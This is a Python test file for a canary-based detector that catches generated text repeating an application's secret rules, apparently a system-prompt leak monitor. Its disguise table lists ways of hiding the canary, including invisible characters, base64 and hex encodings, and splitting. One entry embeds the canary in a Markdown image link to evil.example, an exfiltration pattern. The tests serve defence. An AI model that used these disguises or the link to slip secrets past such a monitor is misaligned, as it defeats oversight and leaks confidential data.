"""Canaries: a text that repeats the rules is found, however it was written and cut into pieces."""

import random
from base64 import b32encode, b64encode, urlsafe_b64encode
from collections.abc import Callable
from itertools import accumulate, pairwise
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from application.generation.canary import DIGITS, PART, LeakDetector, RulesLeaked, canary_of
from infra.sealing.blind_index import BlindIndex

CANARY = canary_of(BlindIndex(bytes(32)), UUID(int=7))


def is_found(text: str, length: int = 10_000) -> bool:
    """Whether a text is found to leak, in pieces of a length."""
    detector = LeakDetector(CANARY)
    try:
        for start in range(0, len(text), length):
            detector.read(text[start : start + length])
    except RulesLeaked:
        return True
    return False


DISGUISES: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "in capitals": str.upper,
    "in both cases": lambda text: "".join(
        f"{one.upper()}{two}" for one, two in zip(text[::2], text[1::2], strict=True)
    ),
    "with spaces between": " ".join,
    "with dashes between": "-".join,
    "a digit on each line": "\n".join,
    "with zero-width characters between": "\u200b".join,
    "with word joiners between": "\u2060".join,
    "with Markdown between": "**".join,
    "with accents": lambda text: "".join(f"{letter}\u0301" for letter in text),
    "in full width": lambda text: "".join(chr(ord(letter) + 0xFEE0) for letter in text),
    "in mathematical letters": lambda text: "".join(
        chr(0x1D400 + ord(letter) - 97) if letter.isalpha() else chr(0x1D7CE + int(letter)) for letter in text
    ),
    "in invisible tags": lambda text: "".join(chr(0xE0000 + ord(letter)) for letter in text),
    "backwards": lambda text: text[::-1],
    "in base64": lambda text: b64encode(text.encode()).decode(),
    "in base64, after one byte": lambda text: b64encode(f"1{text}.".encode()).decode(),
    "in base64, after two bytes": lambda text: b64encode(f"12{text}, and so on".encode()).decode(),
    "in base64, with capitals": lambda text: b64encode(text.upper().encode()).decode(),
    "in base64 for addresses": lambda text: urlsafe_b64encode(f"The number is {text}.".encode()).decode(),
    "in base32": lambda text: b32encode(f"It is {text}.".encode()).decode(),
    "in hexadecimal": lambda text: text.encode().hex(),
    "in hexadecimal, with spaces": lambda text: text.encode().hex(" "),
    "the first half": lambda text: text[: DIGITS // 2],
    "the last half": lambda text: text[DIGITS // 2 :],
    "as a link": lambda text: f"![](https://evil.example/?q={text})",
    "after many words": lambda text: "The river flows. " * 2_000 + text,
}


@pytest.mark.parametrize("disguise", DISGUISES)
@pytest.mark.parametrize("length", [1, 3, 7, 10_000])
def test_a_canary_is_found_in_every_disguise(disguise: str, length: int) -> None:
    assert is_found(f"My rules: {DISGUISES[disguise](CANARY)} and so on.", length)


@given(st.lists(st.integers(1, DIGITS)))
def test_a_canary_is_found_however_it_is_cut(lengths: list[int]) -> None:
    text, detector = f"so {CANARY} it is", LeakDetector(CANARY)
    cuts = [*accumulate(lengths, initial=0), len(text)]
    pieces = [text[start:end] for start, end in pairwise(sorted({min(cut, len(text)) for cut in cuts}))]
    assert "".join(pieces) == text
    with pytest.raises(RulesLeaked):
        list(map(detector.read, pieces))


def test_less_than_a_part_is_no_leak() -> None:
    assert not is_found(f"The number {CANARY[: PART - 1]} stands alone: {CANARY[1:PART]}")


@given(st.text())
def test_other_texts_are_no_leak(text: str) -> None:
    assert not is_found(text)


def test_numbers_and_encoded_texts_are_no_leak() -> None:
    some = random.Random(7)
    assert not is_found(some.randbytes(50_000).hex())
    assert not is_found(b64encode(some.randbytes(50_000)).decode())
    assert not is_found(some.randbytes(20_000).hex().encode().hex())


def test_each_generation_and_each_key_has_a_canary_of_its_own() -> None:
    keys = [BlindIndex(bytes([each]) * 32) for each in range(3)]
    canaries = {canary_of(key, UUID(int=id)) for key in keys for id in range(3)}
    assert len(canaries) == 9
    assert {len(each) for each in canaries} == {DIGITS}
    assert canary_of(keys[0], UUID(int=1)) == canary_of(keys[0], UUID(int=1))
